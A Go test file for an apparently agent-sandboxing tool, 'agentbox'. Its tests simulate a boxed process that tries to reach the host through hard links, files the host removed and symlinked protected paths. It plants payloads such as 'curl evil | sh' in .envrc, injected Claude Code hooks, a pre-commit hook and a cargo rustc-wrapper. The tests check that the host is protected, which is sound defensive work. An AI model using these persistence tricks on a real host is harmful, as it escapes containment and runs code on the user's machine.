package integrity_test

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/engine"
	"github.com/agentbox/agentbox/internal/engine/enginetest"
)

// TestAttackHardLinkedProtectedFile guards review finding F2: the host's .envrc has a second
// name, payload (a hard link: made by the user, or left by an earlier box). The box writes
// only payload, an ordinary file. Before, the launch ran and the write changed the host's
// .envrc (its staged copy covered the name .envrc, not the inode); now the launch is refused
// with an error naming .envrc and how to break the link, the host's file is unchanged, and
// the daemon admits the next launch once the link is broken.
func TestAttackHardLinkedProtectedFile(t *testing.T) {
	t.Parallel()
	e := newDaemonEnv(t)
	repo(t, e.work)
	envrc := filepath.Join(e.work, ".envrc")
	if err := os.Link(envrc, filepath.Join(e.work, "payload")); err != nil {
		t.Fatal(err)
	}
	_, stderr, code := e.runAll("run", "sh", "--", "-c", `echo 'curl evil | sh' > payload`)
	if b, _ := os.ReadFile(envrc); string(b) != "export A=1\n" {
		t.Errorf("the host's .envrc became %q: the box wrote it through its other name", b)
	}
	if code != 125 || !strings.Contains(stderr, envrc+" has 2 names") ||
		!strings.Contains(stderr, "cp -p "+envrc+" "+envrc+".copy && mv "+envrc+".copy "+envrc) {
		t.Fatalf("launch over a hard-linked .envrc: exit %d, stderr %q: want 125 and an error naming .envrc and the fix", code, stderr)
	}
	t.Logf("refused: %s", stderr)
	// The fix the error gives: the next launch runs, and its writes to payload stay in payload.
	if out, err := runSh(e.work, "cp -p .envrc .envrc.copy && mv .envrc.copy .envrc"); err != nil {
		t.Fatalf("the error's fix: %v: %s", err, out)
	}
	if _, stderr, code := e.runAll("run", "sh", "--", "-c", `echo 'curl evil | sh' > payload`); code != 0 {
		t.Fatalf("launch after the link was broken: exit %d: %s", code, stderr)
	}
	if b, _ := os.ReadFile(envrc); string(b) != "export A=1\n" {
		t.Errorf("the host's .envrc became %q", b)
	}
}

// runSh runs script with sh in dir, on the host.
func runSh(dir, script string) ([]byte, error) {
	c := exec.Command("sh", "-c", script)
	c.Dir = dir
	return c.CombinedOutput()
}

// TestAttackHostRemovedProtectedFile guards review finding F1: while a box runs, the host's
// git switches to a branch without .envrc, .claude/settings.json and the workflows folder
// (git removes them, and the binds over them go in the box), and the host renames
// proj.code-workspace away (its bind moves along). The box then writes each path again. Before,
// box-init re-bound what it found there — the box's files — or did not notice the rename, and
// the box's files stayed in the host's workspace: the host's git status listed them and a
// checkout back to main refused to overwrite them. Now each path the host removed is guarded
// from then on: the box's writes succeed in the box and are kept as proposed changes, and the
// host's workspace holds nothing the box wrote.
func TestAttackHostRemovedProtectedFile(t *testing.T) {
	t.Parallel()
	needGit(t)
	evil := map[string]string{
		".envrc":                     "curl evil | sh\n",
		".claude/settings.json":      `{"hooks":{"Stop":"evil"}}` + "\n",
		".github/workflows/evil.yml": "on: push # evil\n",
		"proj.code-workspace":        `{"tasks":"evil"}` + "\n",
	}
	script := `while [ ! -e .git/agentbox-test-go ]; do sleep 0.02; done
set -e
mkdir -p .claude .github/workflows
`
	for rel, content := range evil {
		script += "printf '%s' " + shellQuote(content) + " > " + rel + "\n"
	}
	var ws string
	pb, r := newProtectedBox(t, func(w string) {
		ws = w
		repo(t, w)
		git(t, w, "checkout", "-q", "-b", "bare")
		git(t, w, "rm", "-q", "-r", ".envrc", ".claude/settings.json", ".github/workflows")
		git(t, w, "commit", "-q", "-m", "bare")
		git(t, w, "checkout", "-q", "main")
	}, script, enginetest.Options{AfterExec: func(*engine.Box) {
		git(t, ws, "checkout", "-q", "bare")
		if err := os.Rename(filepath.Join(ws, "proj.code-workspace"), filepath.Join(ws, "proj.code-workspace.bak")); err != nil {
			t.Error(err)
		}
		write(t, filepath.Join(ws, ".git/agentbox-test-go"), "")
	}})
	defer pb.release(t)
	if r.Exit != 0 {
		t.Errorf("the box's writes failed: exit %d (stdout %q stderr %q)", r.Exit, r.Stdout, r.Stderr)
	}
	for rel, content := range evil {
		if b, err := os.ReadFile(filepath.Join(ws, rel)); err == nil {
			t.Errorf("%s on the host holds %q after the box (the box wrote %q)", rel, b, content)
		}
		if b, err := os.ReadFile(filepath.Join(pb.changes, rel)); err != nil || string(b) != content {
			t.Errorf("proposed change %s: %q (%v), want the box's %q", rel, b, err, content)
		}
	}
	// The host's git sees only what the host did, and goes back to main.
	if out := git(t, ws, "status", "--porcelain"); out != " D proj.code-workspace\n?? proj.code-workspace.bak\n" {
		t.Errorf("host git status after the box:\n%s", out)
	}
	git(t, ws, "checkout", "-q", "proj.code-workspace")
	git(t, ws, "checkout", "-q", "main")
	if b, err := os.ReadFile(filepath.Join(ws, ".envrc")); err != nil || string(b) != "export A=1\n" {
		t.Errorf(".envrc after checking main out again: %q, %v", b, err)
	}
	t.Logf("box stderr: %s", r.Stderr)
}

// TestHostRemovesFolderHoldingProtectedFolder guards review 9's finding F5: while a box runs,
// the host removes .github (which holds only the protected workflows folder), as `rm -rf` or a
// `git checkout` of a branch without it does. inotify then ends the watch on .github
// (IN_IGNORED), which box-init took for lost events, so every denied path counted as removed:
// as root, whose boxes mask /etc/shadow twice, box-init stopped the box ("denied path
// /etc/shadow removed on the host") and tried to move /etc/shadow aside. Now the end of a watch
// counts as the removal of what lay beneath that folder only: the box runs to its end.
func TestHostRemovesFolderHoldingProtectedFolder(t *testing.T) {
	t.Parallel()
	e := newDaemonEnv(t)
	repo(t, e.work)
	type result struct {
		stdout, stderr string
		code           int
	}
	done := make(chan result, 1)
	c := e.cmd("run", "sh", "--", "-c", `: > started; while [ ! -e go ]; do sleep 0.02; done; echo box-finished`)
	var out, errb bytes.Buffer
	c.Stdout, c.Stderr = &out, &errb
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		c.Wait()
		done <- result{out.String(), errb.String(), c.ProcessState.ExitCode()}
	}()
	deadline := time.Now().Add(60 * time.Second)
	for {
		if _, err := os.Stat(filepath.Join(e.work, "started")); err == nil {
			break
		}
		if time.Now().After(deadline) {
			c.Process.Kill()
			t.Fatal("the box never started its script")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := os.RemoveAll(filepath.Join(e.work, ".github")); err != nil {
		t.Fatal(err)
	}
	time.Sleep(300 * time.Millisecond) // box-init's keeper runs on the mount table's and inotify's events
	write(t, filepath.Join(e.work, "go"), "")
	r := <-done
	if r.code != 0 || !strings.Contains(r.stdout, "box-finished") {
		t.Fatalf("the box did not run to its end after the host removed .github: exit %d\nstdout %q\nstderr %q", r.code, r.stdout, r.stderr)
	}
}

// TestAttackSymlinkedProtectedPaths guards review 10's finding F2: protected paths that are
// symlinks — .claude/settings.json to a dotfiles file outside the workspace, .git/hooks to a
// shared hooks folder outside it, .cargo/config.toml to a file in it, and .vscode, a folder on
// the way to .vscode/tasks.json, to a folder outside it — cannot be bind-mounted, and the box
// removed each link and put its own file or folder there. Before, all of it stayed in the
// host's workspace (the launch was only flagged DRIFT): the host's git commit ran the box's
// pre-commit hook, and the host's Claude Code and cargo read the box's files. Now each link is
// guarded: what the box puts there is moved into the proposed changes and the host's link is
// made again, so the host's git commit runs no box hook and each path is the host's link. For
// both engines: the bwrap engine's bwrap-init runs the same guard.
//
// Also (issue #20): a link the box only deletes is made again on the deletion's event. Before,
// it came back at the guard's next pass, which nothing started until the box ended: while the
// box ran, the host's git status listed the tracked link as deleted and `git commit -a` would
// have committed the deletion.
func TestAttackSymlinkedProtectedPaths(t *testing.T) {
	t.Parallel()
	for _, eng := range []string{"native", "bwrap"} {
		t.Run(eng, func(t *testing.T) {
			t.Parallel()
			attackSymlinkedProtectedPaths(t, eng)
		})
	}
}

func attackSymlinkedProtectedPaths(t *testing.T, eng string) {
	e := newEngineDaemonEnv(t, eng)
	repo(t, e.work)
	mark, touch := e.marker("pre-commit")
	shared, dot := filepath.Join(e.root, "shared-hooks"), filepath.Join(e.root, "dot")
	write(t, filepath.Join(dot, "settings.json"), "{}\n")
	write(t, filepath.Join(dot, "vscode", "settings.json"), "{}\n")
	if err := os.MkdirAll(shared, 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(e.work, "tools", "cargo.toml"), "[build]\n")
	links := map[string]string{".git/hooks": shared, ".claude/settings.json": filepath.Join(dot, "settings.json"),
		".cargo/config.toml": "../tools/cargo.toml", ".vscode": filepath.Join(dot, "vscode")}
	for rel, target := range links {
		p := filepath.Join(e.work, rel)
		os.RemoveAll(p)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	git(t, e.work, "add", "-A")
	git(t, e.work, "commit", "-q", "-m", "links")
	// First the box only deletes the tracked link .cargo/config.toml, and waits: the host's git
	// must find it in place again while the box runs.
	hostSaw := e.hostCheck(func() string {
		if gs, _ := hostGit(e.work, "status", "--porcelain"); gs != "" {
			return "the host's git status while the box ran, after it deleted the link:\n" + gs
		}
		return ""
	})
	// Then it replaces each link with its own file or folder: a file renamed over the link (a
	// deleted link is made again at once), a folder after deleting the link (which races with
	// the link made again: either the box's folder is moved out, or its mkdir fails).
	out := e.boxPlant(fmt.Sprintf(`rm .cargo/config.toml && %s
printf '{"hooks":{"SessionStart":"evil"}}' > s.json && mv -f s.json .claude/settings.json
printf '[build]\nrustc-wrapper = "tools/w.sh"\n' > c.toml && mv -f c.toml .cargo/config.toml
rm .vscode && mkdir .vscode && printf '{"tasks":"evil"}' > .vscode/tasks.json
rm .git/hooks && mkdir .git/hooks && printf '#!/bin/sh\n%s\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
echo planted`, boxWaitScript, touch))
	if msg := <-hostSaw; msg != "" {
		t.Errorf("%s\nthe box said:\n%s", msg, out)
	}
	os.Remove(filepath.Join(e.work, ".git", "agentbox-test-go"))
	requirePlanted(t, out)
	for rel, target := range links {
		if got, err := os.Readlink(filepath.Join(e.work, rel)); err != nil || got != target {
			t.Errorf("%s on the host after the box: %q, %v; want the host's symlink to %s", rel, got, err, target)
		}
	}
	write(t, filepath.Join(e.work, "b"), "b\n")
	if gs, err := hostGit(e.work, "add", "b"); err != nil {
		t.Fatalf("git add: %v\n%s", err, gs)
	}
	gs, _ := hostGit(e.work, "commit", "-q", "-m", "b")
	notRun(t, mark, "the host's git commit:\n"+gs, out)
	if b, err := os.ReadFile(filepath.Join(e.root, "dot", "settings.json")); err != nil || string(b) != "{}\n" {
		t.Errorf("the link's target outside the workspace: %q, %v", b, err)
	}
	l := e.lastLaunch()
	if l.Engine != eng {
		t.Fatalf("the launch ran on engine %q, want %s", l.Engine, eng)
	}
	kept := filepath.Join(e.state, "agentbox", "changes", l.ID, ".claude", "settings.json")
	if b, err := os.ReadFile(kept); err != nil || !strings.Contains(string(b), "evil") {
		t.Errorf("the box's .claude/settings.json is not kept as a proposed change: %q, %v\n%s", b, err, out)
	}
	if !strings.Contains(out, "to protected configuration: agentbox changes") {
		t.Errorf("agentbox run did not say that the box proposed changes:\n%s", out)
	}
}

// BenchmarkLinkRestoreWindow measures the window of a guarded symlink (docs/integrity.md,
// "Symlinked protected paths"): in a real box, once per engine, a program removes the host's
// symlink .claude/settings.json (a protected path that is a link into the user's dotfiles) and
// polls every 20 µs, as a host program looking for it would, until the guard has made it again.
// Each op is one removal; ns/op is the mean time from the unlink to the link's return, as the
// box sees it (the launch itself is not counted), window-p50-µs and window-max-µs the median
// and the longest. Run it with -benchtime=Nx (N removals in one box).
func BenchmarkLinkRestoreWindow(b *testing.B) {
	if _, err := exec.LookPath("python3"); err != nil {
		b.Skip("python3 not installed")
	}
	for _, eng := range []string{"native", "bwrap"} {
		b.Run(eng, func(b *testing.B) {
			e := newEngineDaemonEnv(b, eng)
			repo(b, e.work)
			dot := filepath.Join(e.root, "dot", "settings.json")
			write(b, dot, "{}\n")
			link := filepath.Join(e.work, ".claude", "settings.json")
			os.Remove(link) // repo's file
			if err := os.Symlink(dot, link); err != nil {
				b.Fatal(err)
			}
			out := e.boxPlant(fmt.Sprintf(`exec python3 -c '
import os, time
link = ".claude/settings.json"
ws = []
for i in range(%d):
    t = time.perf_counter_ns()
    os.unlink(link)
    while not os.path.islink(link):
        time.sleep(20e-6)
        if time.perf_counter_ns() - t > 10e9:
            raise SystemExit("the link was not made again within 10 s")
    ws.append(time.perf_counter_ns() - t)
print("windows", *ws)
'`, b.N))
			var ws []int64
			for _, line := range strings.Split(out, "\n") {
				if f := strings.Fields(line); len(f) > 0 && f[0] == "windows" {
					for _, s := range f[1:] {
						n, err := strconv.ParseInt(s, 10, 64)
						if err != nil {
							b.Fatalf("the box said %q", line)
						}
						ws = append(ws, n)
					}
				}
			}
			if len(ws) != b.N {
				b.Fatalf("%d windows measured, want %d; the box said:\n%s", len(ws), b.N, out)
			}
			if t, err := os.Readlink(link); err != nil || t != dot {
				b.Fatalf("the host's symlink after the box: %q, %v", t, err)
			}
			slices.Sort(ws)
			var sum int64
			for _, w := range ws {
				sum += w
			}
			b.ReportMetric(float64(sum)/float64(len(ws)), "ns/op")
			b.ReportMetric(float64(ws[len(ws)/2])/1e3, "window-p50-µs")
			b.ReportMetric(float64(ws[len(ws)-1])/1e3, "window-max-µs")
		})
	}
}
